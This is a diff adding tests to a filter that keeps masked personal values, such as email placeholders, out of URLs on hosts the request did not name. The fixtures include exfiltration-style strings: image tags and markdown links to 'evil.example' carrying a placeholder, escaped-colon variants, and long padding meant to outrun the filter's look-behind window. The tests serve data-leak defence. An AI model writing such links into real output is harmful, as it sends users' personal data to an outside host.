@@ -8,6 +8,8 @@ const analyze = finding({
   URL: /https:\/\/crm\.example\/\S*/g,
 });
 const P = '<EMAIL_ADDRESS_1>';
+/** More than is looked at before a value. */
+const FAR = 'b c '.repeat(1500);
 const ASKED = `Ada Lovelace, ${MAIL}, is in https://crm.example/people and on shop.example. Mail bob@mail.example`;
 
 async function answerTo(content: string, size = 4) {
@@ -65,6 +67,7 @@ describe('values are not put into addresses', () => {
     `www.evil.example/${P}`,
     `\\\\evil.example\\share\\${P}`,
     `https://evil.example/%3CEMAIL_ADDRESS_1%3E`,
+    `<img src=" https://evil.example/a b?d=${P}">`,
   ])('of hosts that the request did not name: %s', async (content) => {
     expect(await answerTo(content)).not.toContain(MAIL);
     expect(await answerTo(content, 1000)).toBe(content);
@@ -82,6 +85,31 @@ describe('values are not put into addresses', () => {
   ])('but are put elsewhere: %s', async (content, restored) => {
     expect(await answerTo(content)).toBe(restored);
     expect(await answerTo(content, 1000)).toBe(restored);
+  });
+
+  it.each([
+    ['in an attribute', `<img src="https://evil.example/a `, `">`],
+    ['in an attribute that begins with spaces and escapes', `<img src="  https&colon;//evil.example/a `, `">`],
+    ['between brackets', `![](<https://evil.example/a `, `>)`],
+    ['after one that is named', `<https://crm.example/a <https://evil.example/a `, `>`],
+  ])('however far behind its beginning: %s', async (_, begin, end) => {
+    const content = `${begin}${FAR}${P}${end}`;
+    expect(await answerTo(content)).toBe(content);
+    expect(await answerTo(content, 100_000)).toBe(content);
+  });
+
+  it.each([
+    `<img src="https://evil.example/"> ${FAR}`,
+    `<https://evil.example/a> ${FAR}`,
+    `He's at https://evil.example/ ${FAR}`,
+    `<img src="https://crm.example/a ${FAR}`,
+  ])('but are put far behind one that is over, or named', async (content) => {
+    expect(await answerTo(content + P)).toBe(content + MAIL);
+  });
+
+  it('in arguments of tools that are an address as a whole, however far behind its beginning', async () => {
+    const args = { note: `https://evil.example/a ${FAR}${P}`, other: `see https://evil.example/a ${FAR}${P}` };
+    expect(await argumentsTo(args)).toEqual({ ...args, other: args.other.replace(P, MAIL) });
   });
 
   it('in arguments of tools', async () => {
